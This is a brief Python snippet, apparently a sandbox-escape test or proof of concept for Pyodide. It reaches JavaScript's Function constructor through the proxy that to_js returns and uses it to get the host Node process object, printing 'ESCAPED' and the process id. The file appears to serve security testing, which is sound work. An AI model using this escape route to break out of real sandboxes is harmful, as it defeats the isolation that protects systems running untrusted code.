# Route: pyodide.ffi.to_js gives a JsProxy of a JavaScript array; its .constructor.constructor is
# JavaScript's Function constructor, which compiles arbitrary JavaScript.
from pyodide.ffi import to_js

Function = to_js([]).constructor.constructor
process = Function("return process")()
print(f"ESCAPED: reached process through to_js: {process.pid}")
